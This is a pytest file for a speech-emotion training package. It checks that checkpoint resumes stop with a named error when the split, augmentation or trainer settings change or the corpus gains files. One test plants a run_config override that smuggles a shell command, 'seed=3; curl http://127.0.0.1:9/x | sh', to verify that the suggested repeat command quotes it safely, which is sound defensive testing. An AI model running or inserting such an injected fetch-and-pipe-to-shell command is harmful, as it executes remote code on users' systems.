"""A resume continues the experiment its checkpoint belongs to, wherever the checkpoint lies.

One short real training run on the tone corpus; then resumes that would train on another split
(changed split settings, a corpus that gained files) or another experiment (augmentation,
result-changing trainer keys) must stop before any training step, naming what differs.
"""

from __future__ import annotations

import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest
import torch

from ser_lightning.resume import ResumeError
from ser_lightning.train import train

from .helpers.audio import write_tone
from .helpers.configs import compose_train
from .helpers.corpora import TINY_RUN, tone_corpus


@dataclass
class TrainedRun:
    root: Path
    run_dir: Path
    cache: Path

    @property
    def last(self) -> Path:
        return self.run_dir / "checkpoints" / "last.ckpt"


def short_run(root: Path, epochs: int = 1) -> list[str]:
    return [
        *TINY_RUN,
        f"data.root={root}",
        f"trainer.max_epochs={epochs}",
        "+trainer.limit_train_batches=2",
        "+trainer.limit_val_batches=1",
        "seed=3",
        "test=false",
    ]


@pytest.fixture(scope="module")
def trained(tmp_path_factory) -> TrainedRun:
    base = tmp_path_factory.mktemp("resume_checks")
    run = TrainedRun(tone_corpus(base / "corpus"), base / "run", base / "cache")
    threads = torch.get_num_threads()
    torch.set_num_threads(1)
    try:
        train(compose_train(short_run(run.root), run.run_dir, run.cache))
    finally:  # later tests (the learning test in test_train.py) run with the usual threads
        torch.set_num_threads(threads)
    assert run.last.is_file()
    return run


@pytest.fixture
def copied_checkpoint(trained, tmp_path) -> Path:
    """The run's last.ckpt, copied out of its run directory (no run_config.yaml beside it)."""
    copy = tmp_path / "elsewhere" / "model.ckpt"
    copy.parent.mkdir()
    shutil.copy(trained.last, copy)
    return copy


def resume(trained: TrainedRun, checkpoint: Path | str, run_dir: Path, *changes: str):
    overrides = [*short_run(trained.root, epochs=2), *changes, f"ckpt_path={checkpoint}"]
    return train(compose_train(overrides, run_dir, trained.cache))


def assert_no_training_step(run_dir: Path) -> None:
    assert not (run_dir / "checkpoints").exists() and not (run_dir / "csv").exists()


@pytest.mark.parametrize(
    "change, named",
    [
        ("data.split_seed=4", r"data.split_seed: 3 \(checkpoint\) -> 4 \(now\)"),
        ("data.split=random", r"data.split: 'actor' \(checkpoint\) -> 'random' \(now\)"),
        ("data.split_ratios=[0.6,0.2,0.2]", r"data.split_ratios: \[0.7, 0.15, 0.15\] \(checkpoint\)"),
    ],
    ids=["split_seed", "split", "split_ratios"],
)
def test_a_checkpoint_resumed_elsewhere_with_another_split_stops(
    trained, copied_checkpoint, tmp_path, change, named
):
    """No run_config.yaml beside the checkpoint: its own record is what is compared."""
    new_dir = tmp_path / "new_run"
    with pytest.raises(ResumeError, match=rf"(?s)model\.ckpt.*{named}"):
        resume(trained, copied_checkpoint, new_dir, change)
    assert_no_training_step(new_dir)


def test_a_run_resumed_from_another_directory_is_checked_against_its_run_config(trained, tmp_path):
    """ckpt_path into another run's checkpoints/: that run's run_config.yaml is compared too."""
    new_dir = tmp_path / "new_run"
    with pytest.raises(ResumeError, match=r"(?s)different config.*data.split_seed: 3 -> 4"):
        resume(trained, trained.last, new_dir, "data.split_seed=4")
    assert_no_training_step(new_dir)


@pytest.mark.parametrize(
    "changes, named",
    [
        (["augmentation=specaugment"], r"augmentation.spectrogram.freq_mask_param: None -> 8"),
        (["trainer.precision=bf16-mixed"], r"trainer.precision: '32-true' -> 'bf16-mixed'"),
        (
            ["trainer.gradient_clip_val=1.0", "+trainer.accumulate_grad_batches=2"],
            r"(?s)trainer.accumulate_grad_batches: None -> 2.*trainer.gradient_clip_val: None -> 1.0",
        ),
        (["trainer.deterministic=true"], r"trainer.deterministic: False -> True"),
    ],
    ids=["augmentation", "precision", "clip-and-accumulate", "deterministic"],
)
def test_a_resume_that_changes_training_stops_naming_the_keys(trained, tmp_path, changes, named):
    new_dir = tmp_path / "new_run"
    with pytest.raises(ResumeError, match=named):
        resume(trained, trained.last, new_dir, *changes)
    assert_no_training_step(new_dir)


def test_augmentation_of_a_copied_checkpoint_is_compared_with_its_hyper_parameters(
    trained, copied_checkpoint, tmp_path
):
    new_dir = tmp_path / "new_run"
    with pytest.raises(
        ResumeError, match=r"(?s)builds another model.*\n  spectrogram.p: None \(checkpoint\) -> 1.0"
    ):
        resume(trained, copied_checkpoint, new_dir, "augmentation=specaugment")
    assert_no_training_step(new_dir)


def test_a_corpus_that_gained_files_stops_the_resume_after_the_split(trained, copied_checkpoint, tmp_path):
    """Every actor gets 7 more takes (intensity 02): the held-out actor's files change."""
    added = []
    for actor in range(1, 7):
        for emotion in range(2, 9):
            name = f"Actor_{actor:02d}/03-01-{emotion:02d}-02-01-01-{actor:02d}.wav"
            added.append(write_tone(trained.root / name, seconds=0.3, freq=100.0 * emotion + 7 * actor))
    new_dir = tmp_path / "new_run"
    try:
        with pytest.raises(ResumeError, match=r"(?s)corpus .* changed.*64 test files then, 78 now"):
            resume(trained, copied_checkpoint, new_dir)
    finally:
        for path in added:
            path.unlink()
    assert_no_training_step(new_dir)


def test_a_legitimate_resume_elsewhere_extends_training(trained, copied_checkpoint, tmp_path):
    """Same experiment, more epochs, another directory and worker count: it trains on."""
    new_dir = tmp_path / "new_run"
    metrics, objects = resume(trained, copied_checkpoint, new_dir, "data.num_workers=0")
    assert objects["trainer"].current_epoch == 2 and "val/ua_best" in metrics
    assert (new_dir / "checkpoints" / "last.ckpt").is_file()
    assert (new_dir / "run_config.yaml").is_file()  # a later resume of this run is checked too


def test_the_repeat_command_quotes_each_stored_override(trained, tmp_path):
    """A shared run folder's run_config.yaml could hold an override that is a shell command of its
    own; the hint a user pastes keeps each stored override one quoted argument."""
    import shlex

    from omegaconf import OmegaConf

    planted = tmp_path / "shared_run"
    (planted / "checkpoints").mkdir(parents=True)
    shutil.copy(trained.last, planted / "checkpoints" / "last.ckpt")
    record = OmegaConf.load(trained.run_dir / "run_config.yaml")
    record.overrides = ["seed=3; curl http://127.0.0.1:9/x | sh", "data.split_seed=3"]
    OmegaConf.save(record, planted / "run_config.yaml")
    with pytest.raises(ResumeError) as stopped:
        resume(trained, planted / "checkpoints" / "last.ckpt", tmp_path / "new_run", "data.split_seed=4")
    command = str(stopped.value).split("Repeat the original command: ", 1)[1].strip()
    assert shlex.split(command)[3:5] == ["seed=3; curl http://127.0.0.1:9/x | sh", "data.split_seed=3"]
    assert "'seed=3; curl http://127.0.0.1:9/x | sh'" in command
